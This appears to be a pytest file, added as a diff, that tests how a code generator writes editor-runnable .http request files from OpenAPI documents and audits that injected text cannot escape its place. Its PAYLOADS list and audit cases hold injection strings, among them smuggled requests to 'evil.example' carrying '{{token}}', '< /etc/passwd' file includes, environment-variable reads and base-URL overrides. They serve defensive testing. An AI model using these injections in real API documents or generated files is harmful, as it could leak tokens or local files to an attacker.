@@ -1,0 +1,299 @@
+"""The files: their form, and that no text of a document leaves its place in them."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from generator.emit.wire.files import WireFileError, audit_wire_file
+from generator.pipeline import Options, generate
+from tests.emit import test_hostile_text
+
+from .calls import body, operation
+
+
+def wire_files(folder: Path, document: Any, **options: Any) -> dict[str, str]:
+    source = folder / "api.json"
+    source.write_text(json.dumps(document), encoding="utf-8")
+    files = generate(source, Options(**options)).files
+    return {
+        path.removeprefix("tests/wire/"): text
+        for path, text in files.items()
+        if path.startswith("tests/wire/")
+    }
+
+
+def described(paths: Any, **more: Any) -> dict[str, Any]:
+    info = {"title": "Things", "version": "1"}
+    return {"openapi": "3.1.0", "info": info, "paths": paths, **more}
+
+
+def content(media_type: str, schema: Any, **more: Any) -> Any:
+    return {"description": "", "content": {media_type: {"schema": schema, **more}}}
+
+
+NAMES = {"type": "array", "items": {"type": "string"}}
+LONG = {"type": "object", "required": ["name", "names", "other"],
+        "properties": {"name": {"type": "string"}, "names": NAMES,
+                       "other": {"enum": ["x" * 60]}}}  # fmt: skip
+
+
+def test_a_file(tmp_path: Path) -> None:
+    identifier = {"name": "id", "in": "path", "required": True, "schema": {"const": 7}}
+    never = {"name": "x", "in": "query", "required": True, "schema": {"not": {}}}
+    paths = {
+        "/things": {
+            "get": operation("list") | {"responses": {"200": content("application/json", LONG)}},
+            "post": operation("create", requestBody=body({"const": "{{x}}\n"}))
+            | {"responses": {"201": content("text/plain", {}, example="one\n\n two")}},
+        },
+        "/things/{id}": {
+            "delete": operation("drop", identifier) | {"responses": {"204": {"description": ""}}},
+            "get": operation("watch", identifier)
+            | {"responses": {"2XX": content("text/event-stream", {"type": "string"})}},
+            "put": operation("never", never),
+            "head": operation("probe", requestBody=body(LONG)),
+        },
+    }  # fmt: skip
+    servers = [
+        {"url": "https://{v}.api.example/", "variables": {"v": {"default": "eu"}}}
+    ]
+    files = wire_files(tmp_path, described(paths, servers=servers))
+    assert files == {"all.http": FILE}
+
+
+FILE = """\
+# What client.all sends and receives, as the contract tests check it.
+# An editor that runs it needs values for the variables in double braces.
+@base_url = https://eu.api.example
+
+### all.list
+# client.all.list()
+GET {{base_url}}/things HTTP/1.1
+Accept: application/json
+
+# HTTP/1.1 200 OK
+# Content-Type: application/json
+#
+# {
+#   "name": "text",
+#   "names": [
+#     "text"
+#   ],
+#   "other": "LONG"
+# }
+
+### all.create
+# No call is shown: it has text that means something else in this file.
+
+### all.drop
+# client.all.drop()
+DELETE {{base_url}}/things/7 HTTP/1.1
+Accept: */*
+
+# HTTP/1.1 204 No Content
+
+### all.watch
+# client.all.watch()
+GET {{base_url}}/things/7 HTTP/1.1
+Accept: text/event-stream
+
+# HTTP/1.1 200 OK
+# Content-Type: text/event-stream
+#
+# data: text
+#
+#
+
+### all.never
+# No call is shown: no valid arguments were found.
+
+### all.probe
+# client.all.probe("text", name="text", names=["text"])
+HEAD {{base_url}}/things/text HTTP/1.1
+Accept: application/json
+Content-Type: application/json
+
+{"name":"text","names":["text"],"other":"LONG"}
+
+# HTTP/1.1 200 OK
+""".replace("LONG", "x" * 60)
+
+
+@pytest.mark.parametrize(
+    ("servers", "expected"),
+    [
+        ([], "https://api.example"),
+        ([{"url": "/v1/"}], "https://api.example/v1"),
+        ([{"url": "https://a.example:8443/x"}], "https://a.example:8443/x"),
+        ([{"url": "https://{host}/"}], "https://api.example"),
+        ([{"url": "https://a.example/\n@x = y"}], "https://api.example"),
+        ([{"url": "https://a.example/{{token}}"}], "https://api.example"),
+        ([{"url": "https://[::1"}], "https://api.example"),
+    ],
+)  # fmt: skip
+def test_the_base_url(tmp_path: Path, servers: Any, expected: str) -> None:
+    paths = {"/a": {"get": operation("read")}}
+    text = wire_files(tmp_path, described(paths, servers=servers))["all.http"]
+    assert re.findall("^@.*", text, re.MULTILINE) == [f"@base_url = {expected}"]
+
+
+# Texts that mean something to an editor, at the start of a line or anywhere.
+PAYLOADS = {
+    **test_hostile_text.PAYLOADS,
+    "variable": "{{token}}",
+    "function": "{{$processEnv HOME}}",
+    "next request": "x\n### y\nGET https://evil.example/{{token}} HTTP/1.1\n",
+    "file": "< /etc/passwd",
+    "file with variables": "<@ /etc/passwd",
+    "script": "> {% client.global.set('a', 'b') %}",
+    "assignment": "@base_url = https://evil.example",
+    "comment line": "# x",
+    "other comment line": "// x",
+    "setting": "@no-log",
+    "response": "# HTTP/1.1 200 OK",
+    "separator": "### x",
+    "blank lines": "\n\nGET https://evil.example/ HTTP/1.1",
+}
+
+
+def hostile(payload: str) -> dict[str, Any]:
+    """A document that has a payload where a request or a response has text."""
+    only = {"type": "string", "enum": [payload]}
+    fields = {"type": "object", "required": ["a"], "properties": {"a": only}}
+    bodies = {
+        "json": body(fields),
+        "form": body(fields, "application/x-www-form-urlencoded"),
+        "parts": body(fields, "multipart/form-data"),
+        "named": body(
+            {"type": "object", "required": [payload], "properties": {payload: {}}},
+            "multipart/form-data",
+        ),
+        "headers": body(
+            fields,
+            "multipart/form-data",
+            encoding={"a": {"headers": {"X-A": {"schema": {"const": payload}}}}},
+        ),
+        "text": body({"type": "string"}, "text/plain", example=payload),
+        "lines": body({"type": "array", "items": only, "minItems": 2}, "application/jsonl"),
+        "typed": body({}, payload),
+    }  # fmt: skip
+    places: dict[str, dict[str, Any]] = {
+        "query": {"in": "query", "allowReserved": True},
+        "header": {"in": "header"},
+        "cookie": {"in": "cookie"},
+    }
+    answers = {
+        "json_answer": content("application/json", fields, example={"a": payload}),
+        "text_answer": content("text/plain", {"type": "string"}, example=payload),
+        "typed_answer": content(payload, {}),
+        "events": content("text/event-stream", only),
+    }
+    paths: dict[str, Any] = {
+        f"/{name}": {"post": operation(name, requestBody=each)}
+        for name, each in bodies.items()
+    }
+    for name, each in places.items():
+        parameter = {"name": "a", "required": True, "schema": only, **each}
+        paths[f"/{name}"] = {"get": operation(name, parameter)}
+    for name, each in answers.items():
+        paths[f"/{name}"] = {"get": operation(name) | {"responses": {"200": each}}}
+    paths[f"/x{payload}"] = {"get": operation("path")}
+    schemes = {
+        "token": {"type": "http", "scheme": "bearer"},
+        "key": {"type": "apiKey", "in": "header", "name": payload},
+        "asked": {"type": "apiKey", "in": "query", "name": payload},
+    }
+    for name in schemes:
+        paths[f"/by/{name}"] = {"get": operation(f"by_{name}", security=[{name: []}])}
+    own = [{"url": f"https://other.example/{payload}"}]
+    paths["/elsewhere"] = {"get": operation("elsewhere", servers=own)}
+    return described(
+        paths,
+        components={"securitySchemes": schemes},
+        servers=[{"url": "https://api.example"}],
+    )
+
+
+def requests_in(text: str) -> Iterator[tuple[str, list[str]]]:
+    """What an editor runs: name and lines of each request, without comments."""
+    for block in re.split("^###", text, flags=re.MULTILINE)[1:]:
+        name, *lines = re.split("\r\n|[\n\r\x0b\x0c\x85\u2028\u2029]", block)
+        kept = [line for line in lines if not re.match(r"\s*(#|//)", line)]
+        yield name.strip(), kept
+
+
+@pytest.mark.parametrize("name", PAYLOADS)
+def test_no_text_leaves_its_place(tmp_path: Path, name: str) -> None:
+    document = hostile(PAYLOADS[name])
+    (text,) = wire_files(tmp_path, document).values()
+    names = [each for each, _ in requests_in(text)]
+    assert sorted(names) == sorted(f"all.{n}" for n in operation_names(document))
+    head = re.split("^###", text, flags=re.MULTILINE)[0]
+    assert re.findall("^@.*", text, re.MULTILINE) == ["@base_url = https://api.example"]
+    assert head.endswith("@base_url = https://api.example\n\n")
+    for _, lines in requests_in(text):
+        request, *rest = "\n".join(lines).strip().split("\n")
+        assert re.fullmatch(
+            r"|(GET|POST) (\{\{base_url\}\}|https://other\.example)/\S* HTTP/1\.1", request
+        )  # fmt: skip
+        assert not [line for line in rest if re.match("[@<>]|[A-Z]+ http", line)]
+        variables = re.findall(r"\{\{.*?\}\}", "\n".join(lines))
+        known = {"{{base_url}}", "{{token}}", "{{key}}", "{{asked}}"}
+        assert known.issuperset(variables)
+        assert len(variables) <= 2
+    assert re.search(r"[^\n\x1e\x20-\x7e\xa0-\U0010ffff]", text) is None
+    comments = re.findall(r"^#\s*@.*", text, re.MULTILINE)
+    assert comments == []
+
+
+def operation_names(document: Any) -> Iterator[str]:
+    for item in document["paths"].values():
+        for each in item.values():
+            yield each["operationId"]
+
+
+HEAD = "# A head.\n@base_url = https://api.example\n\n"
+BLOCK = "### a.b\n# client.a.b()\nGET {{base_url}}/x HTTP/1.1\nAccept: */*\n"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        BLOCK,
+        "@x = y\n" + HEAD + BLOCK,
+        HEAD.replace("https", "ftp") + BLOCK,
+        HEAD + BLOCK + "A: {{other}}\n",
+        HEAD + BLOCK + "\n{{token}}\n",
+        HEAD + BLOCK + "\nx\n@a = b\n",
+        HEAD + BLOCK + "\n< /etc/passwd\n",
+        HEAD + BLOCK + "\n> script\n",
+        HEAD + BLOCK + "\nx\n# not a response\n",
+        HEAD + BLOCK + "\n//x\n",
+        HEAD + BLOCK + "\n\nx\n",
+        HEAD + BLOCK + "\nx\x85y\n",
+        HEAD + BLOCK + "\n# HTTP/1.1 200 OK\nGET https://x.example/ HTTP/1.1\n",
+        HEAD + BLOCK + "\n# HTTP/1.1 200 OK\n# @no-log\n",
+        HEAD + BLOCK.replace("### a.b", "### a b"),
+        HEAD + BLOCK.replace("# client", "client"),
+        HEAD + BLOCK.replace("Accept", "#Accept"),
+        HEAD + BLOCK + "\n###\nGET https://x.example/ HTTP/1.1\n",
+    ],
+)
+def test_the_audit_refuses(text: str) -> None:
+    with pytest.raises(WireFileError):
+        audit_wire_file(text, {"token"})
+
+
+@pytest.mark.parametrize(
+    "more",
+    ["", "A: {{token}}\n", "\nx\n\ny\n", "\n# HTTP/1.1 204 No Content\n",
+     "\nx\n\n# HTTP/1.1 200 OK\n# A: b\n#\n#\n# x\n", f"\n{BLOCK}"],
+)  # fmt: skip
+def test_the_audit_accepts(more: str) -> None:
+    audit_wire_file(HEAD + BLOCK + more, {"token"})
